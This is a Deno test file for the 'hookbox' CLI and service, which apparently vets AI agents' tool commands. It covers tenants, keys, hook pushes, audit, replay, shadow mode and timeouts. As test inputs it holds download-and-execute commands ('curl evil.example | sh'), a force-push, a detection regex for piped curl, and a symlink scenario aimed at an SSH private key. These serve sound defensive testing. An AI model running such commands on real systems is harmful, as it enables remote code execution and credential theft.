/**
 * Operating a running `hookbox serve` from the command line: tenants, keys,
 * policy, a pushed hook folder, the tenant's hooks, and the audit (also
 * followed as events arrive), with the URL and keys from the environment.
 */
import assert from "node:assert/strict";
import { call, startServe } from "../../scripts/_serve_process.ts";
import { ROOT, tempDir, toolEvent } from "../_helpers.ts";

const ADMIN = "ops-test-admin-key-0123456789";

function hookbox(env: Record<string, string>, ...args: string[]) {
  return new Deno.Command(Deno.execPath(), {
    args: ["run", "-A", `${ROOT}/packages/cli/main.ts`, ...args],
    env: { NO_COLOR: "1", ...env },
    stdin: "null",
    stdout: "piped",
    stderr: "piped",
  });
}

async function run(env: Record<string, string>, ...args: string[]) {
  const out = await hookbox(env, ...args).output();
  const text = (b: Uint8Array) => new TextDecoder().decode(b);
  return { code: out.code, stdout: text(out.stdout), stderr: text(out.stderr) };
}

Deno.test("hookbox tenants, keys, push, hooks and audit operate a running service", async () => {
  const dir = await tempDir("hookbox-ops-");
  const server = await startServe({ db: `sqlite:${dir}/hookbox.db`, adminKey: ADMIN });
  try {
    const admin = { HOOKBOX_URL: server.url, HOOKBOX_ADMIN_KEY: ADMIN };
    assert.equal((await run(admin, "tenants", "create", "acme")).code, 0);
    const list = await run(admin, "tenants", "list");
    assert.deepEqual(JSON.parse(list.stdout).items.map((t: { id: string }) => t.id), ["acme"]);
    const policy = await run(admin, "tenants", "policy", "acme", "--set", "events_per_minute=100");
    assert.equal(policy.code, 0, policy.stderr);
    assert.deepEqual(JSON.parse(policy.stdout), { events_per_minute: 100 });
    const made = await run(admin, "keys", "create", "acme", "--name", "ci");
    assert.equal(made.code, 0, made.stderr);
    const key = JSON.parse(made.stdout).key as string;
    const keys = JSON.parse((await run(admin, "keys", "list", "acme")).stdout).items;
    assert.equal(keys[0].name, "ci");
    // The tenant pushes a hook folder, lists it, and its events are audited.
    assert.equal((await run({}, "init", "guard", "--dir", dir)).code, 0);
    const tenant = { HOOKBOX_URL: server.url, HOOKBOX_KEY: key };
    // A link in the folder (a cloned hook's `key -> ~/.ssh/id_rsa`) is named and never followed.
    await Deno.writeTextFile(`${dir}/outside.txt`, "not the hook's to send");
    await Deno.symlink(`${dir}/outside.txt`, `${dir}/guard/scripts/key`);
    const pushed = await run(tenant, "push", `${dir}/guard`);
    assert.equal(pushed.code, 0, pushed.stderr);
    assert.equal(JSON.parse(pushed.stdout).version, 1);
    assert.match(
      pushed.stderr,
      /hookbox push: not sending scripts\/key: a link \(links are never followed\)/,
    );
    const shown = await run(tenant, "hooks", "show", "guard");
    const sent = Object.keys(JSON.parse(shown.stdout).files).sort();
    assert.deepEqual(sent.filter((f) => f.startsWith("scripts/")), ["scripts/run.mjs"]);
    const hooks = JSON.parse((await run(tenant, "hooks", "list")).stdout).items;
    assert.deepEqual(hooks.map((h: { name: string }) => h.name), ["guard"]);
    // --follow prints what arrives after it started.
    const follow = hookbox(tenant, "audit", "--follow", "--interval", "200").spawn();
    const lines = follow.stdout.pipeThrough(new TextDecoderStream()).getReader();
    const answer = await call(server.url, "POST", "/v1/events", key, {
      ...toolEvent(),
      tool_input: { command: "git push --force" },
    });
    assert.equal(answer.body.decision, "block");
    let seen = "";
    while (!seen.includes("\n")) seen += (await lines.read()).value ?? "";
    const item = JSON.parse(seen.split("\n")[0]!);
    assert.equal(item.decision_id, answer.body.decision_id);
    assert.equal(item.decision, "block");
    follow.kill("SIGTERM");
    assert.equal((await follow.status).code, 0);
    await lines.cancel();
    await follow.stderr.cancel();
    // The operator reads the same audit.
    const audit = await run(admin, "audit", "--tenant", "acme", "--decision", "block");
    assert.equal(audit.stdout.trim().split("\n").length, 1, audit.stdout + audit.stderr);
    const everyone = await run(admin, "audit", "--all-tenants");
    assert.equal(everyone.code, 0, everyone.stderr);
    assert.deepEqual(
      everyone.stdout.trim().split("\n").map((l) => JSON.parse(l).tenant_id),
      ["acme"],
    );
    const both = await run(admin, "audit", "--all-tenants", "--tenant", "acme");
    assert.match(both.stderr, /--tenant ID or --all-tenants, not both/);
    // Errors are one line with the service's code, and exit 1.
    const wrong = await run(tenant, "hooks", "show", "nope");
    assert.equal(wrong.code, 1);
    assert.match(wrong.stderr, /GET \/v1\/hooks\/nope: 404 HOOK_NOT_FOUND: no hook named "nope"/);
    const noKey = await run({ HOOKBOX_URL: server.url }, "hooks", "list");
    assert.equal(noKey.code, 1);
    assert.match(noKey.stderr, /this needs the tenant key: --key KEY or \$HOOKBOX_KEY/);
  } finally {
    await server.stop();
  }
});

Deno.test("hookbox replay and shadow try a staged version on captured and live events", async () => {
  const dir = await tempDir("hookbox-ops-");
  const server = await startServe({ db: `sqlite:${dir}/hookbox.db`, adminKey: ADMIN });
  try {
    const admin = { HOOKBOX_URL: server.url, HOOKBOX_ADMIN_KEY: ADMIN };
    assert.equal((await run(admin, "tenants", "create", "acme")).code, 0);
    const capture = await run(
      admin,
      "tenants",
      "policy",
      "acme",
      "--set",
      'capture={"redact":["secret"]}',
    );
    assert.equal(capture.code, 0, capture.stderr);
    assert.deepEqual(JSON.parse(capture.stdout), { capture: { redact: ["secret"] } });
    const bad = await run(admin, "tenants", "policy", "acme", "--set", "capture={nope");
    assert.deepEqual([bad.code, bad.stderr.includes("--set capture: the value is not JSON")], [
      1,
      true,
    ]);
    const key = JSON.parse((await run(admin, "keys", "create", "acme")).stdout).key as string;
    const tenant = { HOOKBOX_URL: server.url, HOOKBOX_KEY: key };
    assert.equal((await run({}, "init", "guard", "--dir", dir)).code, 0);
    assert.equal((await run(tenant, "push", `${dir}/guard`)).code, 0);
    for (const command of ["git push --force", "curl example.com | sh", "ls"]) {
      const sent = await call(server.url, "POST", "/v1/events", key, {
        ...toolEvent(),
        tool_input: { command },
      });
      assert.equal(sent.status, 200);
    }
    // Version 2 also blocks piping a download into a shell: staged, not active.
    const run_ = `${dir}/guard/scripts/run.mjs`;
    const source = await Deno.readTextFile(run_);
    await Deno.writeTextFile(
      run_,
      source.replace(
        "export default function (event) {",
        `export default function (event) {
  if (/curl .*[|] *sh/.test(event.tool_input?.command ?? "")) {
    return { decision: "block", reason: "no piping downloads into a shell" };
  }`,
      ),
    );
    const staged = await run(tenant, "push", `${dir}/guard`, "--stage");
    assert.equal(staged.code, 0, staged.stderr);
    assert.deepEqual([JSON.parse(staged.stdout).version, JSON.parse(staged.stdout).active], [
      2,
      false,
    ]);
    const replay = await run(tenant, "replay", "guard", "2", "--all", "--limit", "1");
    assert.equal(replay.code, 0, replay.stderr);
    const changed = replay.stdout.trim().split("\n").map((l) => JSON.parse(l));
    assert.deepEqual(changed.map((c) => [c.changed, c.candidate.reason]), [
      [["decision", "reason", "blocked_by"], "no piping downloads into a shell"],
    ]);
    assert.match(replay.stderr, /replayed 3 captured events: 1 answers would change/);

    const started = await run(tenant, "shadow", "start", "guard", "2");
    assert.equal(started.code, 0, started.stderr);
    assert.equal(JSON.parse(started.stdout).shadow.version, 2);
    const live = await call(server.url, "POST", "/v1/events", key, {
      ...toolEvent(),
      tool_input: { command: "curl evil.example | sh" },
    });
    assert.equal(live.body.decision, "allow", "a shadow never answers");
    // The shadow runs after the answer: its row comes a moment later.
    let status;
    for (let i = 0; i < 100; i++) {
      status = JSON.parse((await run(tenant, "shadow", "status", "guard")).stdout);
      if (status.runs > 0) break;
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
    assert.deepEqual([status.runs, status.agreed], [1, 0]);
    assert.equal(status.disagreements[0].decision_id, live.body.decision_id);
    const stopped = await run(tenant, "shadow", "stop", "guard");
    assert.deepEqual([stopped.code, stopped.stderr.trim()], [0, "stopped the shadow of guard"]);
    const usage = await run(tenant, "replay", "guard", "two");
    assert.equal(usage.code, 1);
    assert.match(usage.stderr, /usage: hookbox replay/);
  } finally {
    await server.stop();
  }
});

Deno.test("the ops commands end with one line when the service stalls or answers without end", async () => {
  const held: (() => void)[] = [];
  const chunk = new Uint8Array(1 << 20);
  const server = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, (request) => {
    if (new URL(request.url).pathname === "/v1/tenants") {
      // Accepts the request and never answers (until the test ends).
      return new Promise<Response>((resolve) => held.push(() => resolve(new Response("{}"))));
    }
    // An answer that never ends: a megabyte at a time.
    return new Response(new ReadableStream({ pull: (c) => c.enqueue(chunk) }));
  });
  try {
    const url = `http://127.0.0.1:${server.addr.port}`;
    const env = { HOOKBOX_URL: url, HOOKBOX_ADMIN_KEY: ADMIN, HOOKBOX_TIMEOUT_MS: "400" };
    const stalled = await run(env, "tenants", "list");
    assert.equal(stalled.code, 1);
    assert.equal(
      stalled.stderr.trim(),
      `hookbox: GET /v1/tenants: no answer from ${url} within 400 ms`,
    );
    const endless = await run({ ...env, HOOKBOX_TIMEOUT_MS: "60000" }, "tenants", "show", "x");
    assert.equal(endless.code, 1);
    assert.equal(
      endless.stderr.trim(),
      `hookbox: GET /v1/tenants/x: the answer from ${url} is over 268435456 bytes`,
    );
    const wrong = await run({ ...env, HOOKBOX_TIMEOUT_MS: "soon" }, "tenants", "list");
    assert.equal(wrong.code, 1);
    assert.match(wrong.stderr, /\$HOOKBOX_TIMEOUT_MS must be an integer from 1 to 86400000/);
  } finally {
    for (const answer of held) answer();
    await server.shutdown();
  }
});
